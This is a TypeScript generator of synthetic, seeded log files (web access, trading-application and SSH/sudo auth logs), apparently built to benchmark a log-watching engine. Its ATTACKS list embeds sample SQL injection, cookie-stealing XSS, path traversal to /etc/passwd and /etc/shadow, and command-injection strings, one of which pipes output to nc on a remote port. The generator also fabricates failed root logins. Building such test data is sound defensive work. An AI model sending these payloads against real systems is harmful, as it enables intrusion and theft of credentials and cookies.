import { closeSync, openSync, writeSync } from 'node:fs';
import { pick, seededRandom } from './random.ts';

/*
 * Log files as a busy day leaves them, made the same way every time: many distinct addresses, targets and agents, so that
 * no cache and no dictionary flatters the numbers, and a share of attacks.
 */

export interface GeneratedLog {
  path: string;
  lines: number;
  bytes: number;
  /** Lines that carry an attack. */
  attacks: number;
}

export interface GenerateOptions {
  lines: number;
  seed?: number;
  /** 0–1. */
  attackShare?: number;
  /** UTC milliseconds of the first line. */
  start?: number;
  /** Mean milliseconds between two lines. */
  stepMs?: number;
}

const FLUSH_BYTES = 1 << 20;
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const METHODS = ['GET', 'GET', 'GET', 'GET', 'POST', 'PUT', 'HEAD', 'DELETE'];
/** Shares of a site that works: mostly answered, a few links dead, now and then somebody not signed in. */
const STATUSES = [
  ...Array<number>(80).fill(200),
  204,
  204,
  301,
  302,
  302,
  304,
  304,
  304,
  304,
  304,
  400,
  401,
  403,
  404,
  404,
  404,
  500,
];
const AREAS = [
  'api/v1/orders',
  'api/v1/quotes',
  'api/v2/positions',
  'static/js',
  'static/css',
  'img',
  'account',
  'board',
  'search',
  'report',
];
const WORDS = [
  'alpha',
  'tick',
  'futures',
  'nikkei',
  'spread',
  'margin',
  'hedge',
  'limit',
  'market',
  'volume',
  '約定',
  '板情報',
];
const BROWSERS = ['Chrome', 'Firefox', 'Safari', 'Edg', 'OPR'];
const SYSTEMS = [
  'Windows NT 10.0; Win64; x64',
  'Macintosh; Intel Mac OS X 10_15_7',
  'X11; Linux x86_64',
  'iPhone; CPU iPhone OS 17_4 like Mac OS X',
  'Linux; Android 14',
];
const ATTACKS = [
  '/item?id=1%27%20OR%20%271%27=%271',
  '/item?id=-1%20UNION%20SELECT%20name,pass%20FROM%20users--',
  '/q?s=%3Cscript%3Ealert(1)%3C/script%3E',
  '/q?s=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E',
  '/download?file=../../../../etc/passwd',
  '/static/..%252f..%252f..%252fetc/shadow',
  '/ping?host=127.0.0.1;cat%20/etc/passwd',
  '/cgi-bin/run?cmd=%60id%60%20%7C%20nc%2010.0.0.1%204444',
];

/** Combined-format access lines with more than 50 k distinct targets and agents per million. */
export function generateAccessLog(path: string, options: GenerateOptions): GeneratedLog {
  const random = seededRandom(options.seed ?? 1);
  return writeLines(path, options, (time) => {
    const attack = random() < (options.attackShare ?? 0.02);
    const status = attack ? pick(random, [200, 400, 403, 404]) : pick(random, STATUSES);
    const target = attack ? attackTarget(random) : accessTarget(random);
    const referer = random() < 0.6 ? '-' : `https://desk.example.com/${pick(random, AREAS)}`;
    const line = `${address(random)} - - [${accessStamp(time)}] "${pick(random, METHODS)} ${target} HTTP/1.1" ${status} ${Math.floor(random() * 60_000)} "${referer}" "${agent(random)}"`;
    return { line, attack };
  });
}

/**
 * Long lines of a trading application with sign-ins and attacks between them: many bytes for few lines, in all three
 * classes, over two days.
 */
export function generateTradeLog(path: string, options: { bytes: number; seed?: number }): GeneratedLog {
  const random = seededRandom(options.seed ?? 3);
  const padding = hex(random, 4000);
  const lines = Math.ceil(options.bytes / 1640);
  const stepMs = (2 * 86_400_000) / lines;
  return writeLines(path, { lines, seed: options.seed ?? 3, stepMs }, (time) => {
    const kind = random();
    if (kind < 0.02) {
      const line = `${syslogStamp(time)} bastion sshd[${1000 + Math.floor(random() * 9000)}]: Failed password for root from ${address(random)} port 4${Math.floor(random() * 9999)} ssh2`;
      return { line, attack: true };
    }
    if (kind < 0.1) {
      const attack = random() < 0.05;
      const target = attack ? attackTarget(random) : accessTarget(random);
      return {
        line: `${address(random)} - - [${accessStamp(time)}] "GET ${target} HTTP/1.1" ${attack ? 404 : 200} 512 "-" "${agent(random)}"`,
        attack,
      };
    }
    const at = Math.floor(random() * 2000);
    const stamp = new Date(time).toISOString().replace('T', ' ').replace('.', ',').slice(0, 23);
    return {
      line: `${stamp} - orders - INFO - order ${Math.floor(random() * 1e9)} 約定 payload ${padding.slice(at, at + 1700)}`,
      attack: false,
    };
  });
}

/** sshd, sudo and cron lines in RFC 3164 form, a share of them failed sign-ins. */
export function generateAuthLog(path: string, options: GenerateOptions): GeneratedLog {
  const random = seededRandom(options.seed ?? 2);
  return writeLines(path, options, (time) => {
    const attack = random() < (options.attackShare ?? 0.05);
    const pid = 1000 + Math.floor(random() * 90_000);
    const port = 1024 + Math.floor(random() * 60_000);
    const user = `${pick(random, WORDS.slice(0, 10))}${Math.floor(random() * 400)}`;
    const message = attack
      ? `sshd[${pid}]: Failed password for ${random() < 0.5 ? 'invalid user ' : ''}${user} from ${address(random)} port ${port} ssh2`
      : quietAuth(random, pid, port, user);
    return { line: `${syslogStamp(time)} bastion${Math.floor(random() * 20)} ${message}`, attack };
  });
}

/** Lines of a feed as of this second, each with a number of its own, for a log that is written to while it is watched. */
export function floodBurst(first: number, count: number): string {
  const stamp = new Date().toISOString().slice(0, 19);
  const lines: string[] = [];
  for (let line = first; line < first + count; line += 1)
    lines.push(
      `${stamp}Z desk feed[7]: quote ${line} nikkei ${(line * 37) % 9973} of session ${line % 613}\n`,
    );
  return lines.join('');
}

/** A settings file of an engine that follows these files, whose stamps are UTC, and nothing else. */
export function settingsFollowing(paths: readonly string[]): string {
  const sources = paths.map((path) => `    - path: ${JSON.stringify(path)}\n      timeZone: UTC\n`);
  return `logs:\n  discover: false\n  sources:\n${sources.join('')}`;
}

function quietAuth(random: () => number, pid: number, port: number, user: string): string {
  const kind = random();
  if (kind < 0.35)
    return `sshd[${pid}]: Accepted publickey for ${user} from ${address(random)} port ${port} ssh2: ED25519 SHA256:${hex(random, 43)}`;
  if (kind < 0.6)
    return `sshd[${pid}]: pam_unix(sshd:session): session opened for user ${user}(uid=${1000 + Math.floor(random() * 500)}) by (uid=0)`;
  if (kind < 0.8) return `sshd[${pid}]: pam_unix(sshd:session): session closed for user ${user}`;
  if (kind < 0.9)
    return `sudo: ${user} : TTY=pts/${Math.floor(random() * 9)} ; PWD=/home/${user} ; USER=root ; COMMAND=/usr/bin/systemctl restart feed-${Math.floor(random() * 50)}`;
  return `CRON[${pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`;
}

function writeLines(
  path: string,
  options: GenerateOptions,
  next: (time: number) => { line: string; attack: boolean },
): GeneratedLog {
  const file = openSync(path, 'w');
  const random = seededRandom((options.seed ?? 1) + 7);
  let time = options.start ?? Date.UTC(2026, 4, 1);
  let bytes = 0;
  let attacks = 0;
  let waiting: string[] = [];
  let waitingLength = 0;
  const flush = (): void => {
    const buffer = Buffer.from(waiting.join(''));
    bytes += writeSync(file, buffer);
    waiting = [];
    waitingLength = 0;
  };
  for (let line = 0; line < options.lines; line += 1) {
    const made = next(time);
    time += random() * 2 * (options.stepMs ?? 50);
    if (made.attack) attacks += 1;
    waiting.push(made.line, '\n');
    waitingLength += made.line.length + 1;
    if (waitingLength >= FLUSH_BYTES) flush();
  }
  flush();
  closeSync(file);
  return { path, lines: options.lines, bytes, attacks };
}

function accessTarget(random: () => number): string {
  const path = `/${pick(random, AREAS)}/${Math.floor(random() * 90_000)}`;
  if (random() < 0.5) return path;
  return `${path}?${pick(random, ['q', 'symbol', 'page', 'sort'])}=${encodeURIComponent(pick(random, WORDS))}${Math.floor(random() * 10_000)}`;
}

/** Attacks vary as well: a cache of targets must not make them cheap. */
function attackTarget(random: () => number): string {
  const target = pick(random, ATTACKS);
  return `${target}${target.includes('?') ? '&' : '?'}n=${Math.floor(random() * 1_000_000)}`;
}

function agent(random: () => number): string {
  const browser = pick(random, BROWSERS);
  return `Mozilla/5.0 (${pick(random, SYSTEMS)}) AppleWebKit/537.36 (KHTML, like Gecko) ${browser}/${100 + Math.floor(random() * 40)}.0.${Math.floor(random() * 7000)}.${Math.floor(random() * 200)} Safari/537.36`;
}

/** A busy day's clients: some 30,000, a few of them far busier than the rest. */
function address(random: () => number): string {
  const client = Math.floor(30_000 * random() ** 2);
  return `${1 + (client % 222)}.${(client * 7) % 256}.${(client >> 8) % 256}.${1 + ((client * 13) % 254)}`;
}

function hex(random: () => number, length: number): string {
  let text = '';
  while (text.length < length) text += Math.floor(random() * 16).toString(16);
  return text;
}

function two(value: number): string {
  return String(value).padStart(2, '0');
}

function accessStamp(time: number): string {
  const at = new Date(time);
  return `${two(at.getUTCDate())}/${MONTHS[at.getUTCMonth()]}/${at.getUTCFullYear()}:${two(at.getUTCHours())}:${two(at.getUTCMinutes())}:${two(at.getUTCSeconds())} +0000`;
}

function syslogStamp(time: number): string {
  const at = new Date(time);
  return `${MONTHS[at.getUTCMonth()]} ${String(at.getUTCDate()).padStart(2, ' ')} ${two(at.getUTCHours())}:${two(at.getUTCMinutes())}:${two(at.getUTCSeconds())}`;
}
